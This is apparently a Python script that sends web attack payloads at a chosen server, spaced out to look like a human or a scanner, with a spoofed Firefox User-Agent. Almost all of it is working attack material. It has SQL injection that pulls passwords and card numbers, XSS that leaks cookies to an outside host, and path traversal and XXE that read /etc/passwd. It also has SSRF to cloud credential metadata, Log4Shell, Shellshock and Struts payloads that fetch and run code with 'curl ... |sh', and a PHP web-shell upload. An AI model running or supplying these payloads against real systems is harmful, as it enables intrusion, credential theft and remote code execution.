#!/usr/bin/python3
"""Tries things on a web server at the pace of a person, or a list of known holes at the pace of a tool.
usage: byhand.py KIND BASE COUNT SECONDS
kinds: sql blind xss files include template xml inside log4shell shellshock struts known shell upload"""
import base64, json, random, sys, time, urllib.error, urllib.parse, urllib.request

kind, base, count, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
FOX = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
q = urllib.parse.quote
GET = lambda path, **h: ("GET", path, None, h)
POST = lambda path, data, **h: ("POST", path, data, h)
CHECKS = """/.env /.git/config /.git/HEAD /wp-config.php.bak /phpinfo.php /server-status /actuator/env /actuator/heapdump /manager/html /solr/admin/info/system
/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
/boaform/admin/formLogin?username=admin&psd=admin /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/ /?XDEBUG_SESSION_START=phpstorm /owa/auth/x.js /autodiscover/autodiscover.json?@zdi/PowerShell
/hudson/script /console/ /_ignition/execute-solution /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession /api/jsonws/invoke /telescope/requests /debug/default/view?panel=config
/wp-json/wp/v2/users /wp-content/plugins/wp-file-manager/readme.txt /administrator/manifests/files/joomla.xml /shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws /HNAP1/ /evox/about /sdk /nmaplowercheck /backup.sql /.aws/credentials
/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) /plus/recommend.php?aid=1 /login.action /struts2-showcase/ /jenkins/login /geoserver/web/ /druid/index.html /nacos/ /eureka/apps /swagger-ui.html /v2/_catalog""".split()
LISTS = {
    "sql": [GET("/item?id=3"), GET("/item?id=3%27"), GET("/item?id=3%20and%201=1"), GET("/item?id=3%20and%201=2"), GET("/item?id=3%20order%20by%204"), GET("/item?id=3%20order%20by%205"),
            GET("/item?id=-3%20union%20select%201,2,3,4"), GET("/item?id=-3%20union%20select%201,sqlite_version(),3,4"), GET("/item?id=-3%20UNION%20SELECT%201,group_concat(name),3,4%20FROM%20sqlite_master"),
            GET("/item?id=-3%20UNION%20SELECT%201,name,password,card%20FROM%20users%20limit%201")],
    "blind": [GET("/search?q=" + q("lamp' and substr((select password from users where name='admin'),%d,1)>'%s" % (i, c))) for i in range(1, 9) for c in "gmt"],
    "xss": [GET("/search?q=test"), GET("/search?q=%3Cb%3Etest"), GET("/search?q=" + q("<script>alert(1)</script>")), GET("/search?q=" + q("\"><img src=x onerror=alert(document.domain)>")),
            POST("/comment", "item=3&author=me&body=" + q("<script>fetch('//203.0.113.9/?c='+document.cookie)</script>")), GET("/item?id=3"), GET("/search?q=" + q("<svg/onload=confirm`1`>"))],
    "files": [GET("/file?name=terms.txt"), GET("/file?name=../terms.txt"), GET("/file?name=../../../../../../etc/passwd"), GET("/file?name=..%2f..%2f..%2f..%2f..%2fetc%2fhosts"),
              GET("/file?name=../../../../../proc/self/environ"), GET("/file?name=../../../../../../var/log/auth.log"), GET("/file?name=../shop.db")],
    "include": [GET("/file?name=http://203.0.113.9/shell.txt"), GET("/file?name=http://203.0.113.9/r57.txt%3f"), GET("/file?name=php://input"), GET("/file?name=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2b"),
                GET("/file?name=expect://id"), GET("/file?name=ftp://203.0.113.9/x.php")],
    "template": [GET("/search?q=" + q(t)) for t in ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}")],
    "xml": [POST("/comment", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/%s">]><r>&x;</r>' % f, Content_Type="application/xml") for f in ("passwd", "hosts", "shadow", "issue")] +
           [POST("/comment", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.9/e.dtd"> %d;]><r/>', Content_Type="text/xml")],
    "inside": [GET("/file?url=" + q(u)) for u in ("http://127.0.0.1:8000/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://localhost:6379/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "dict://127.0.0.1:11211/stat")],
    "log4shell": [GET("/", User_Agent="${jndi:ldap://203.0.113.9:1389/a}"), GET("/", X_Api_Version="${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/aWQ=}"), GET("/search?q=x", Referer="${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/x}"),
                  GET("/login?user=" + q("${jndi:dns://x.203.0.113.9/a}"))],
    "shellshock": [GET(p, User_Agent="() { :; }; echo; /bin/bash -c '%s'" % c) for p in ("/cgi-bin/status", "/cgi-bin/test.cgi") for c in ("id", "cat /etc/passwd", "wget http://203.0.113.9/x -O /tmp/x")],
    "struts": [POST("/login.action", "a", Content_Type="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='" + c + "').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}") for c in ("id", "uname -a", "curl 203.0.113.9/x|sh")] +
              [POST("/login", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")],
    "known": [GET(p) for p in CHECKS],
    "shell": [GET("/uploads/img.php?cmd=" + q(c)) for c in ("id", "uname -a", "pwd; ls -la", "cat /etc/passwd", "ps aux", "ip a", "cat /etc/crontab", "ls -la /home", "netstat -tln", "whoami; w")],
    "upload": [POST("/upload.php", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"img.php\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a<?php @eval($_POST['ant']); ?>\r\n--x--\r\n", Content_Type="multipart/form-data; boundary=x")] +
              [POST("/uploads/img.php", "ant=" + q("@ini_set('display_errors','0');@set_time_limit(0);echo(base64_encode(shell_exec('%s')));" % c)) for c in ("id", "ls", "cat config.php", "whoami")] +
              [POST("/uploads/img.php", "cmd=" + q("echo %s|base64 -d|sh" % base64.b64encode(c.encode()).decode())) for c in ("id", "uname -a")],
}
todo = LISTS[kind]
if kind == "known":
    random.shuffle(todo)
for method, path, data, head in (todo * 20)[:min(count, len(todo) * 2)]:
    head = {k.replace("_", "-"): v for k, v in head.items()}
    head.setdefault("User-Agent", FOX)
    try:
        urllib.request.urlopen(urllib.request.Request(base + path, data.encode() if data else None, head, method=method), timeout=6).read()
    except (OSError, urllib.error.HTTPError, ValueError):
        pass
    time.sleep(random.expovariate(1 / gap))
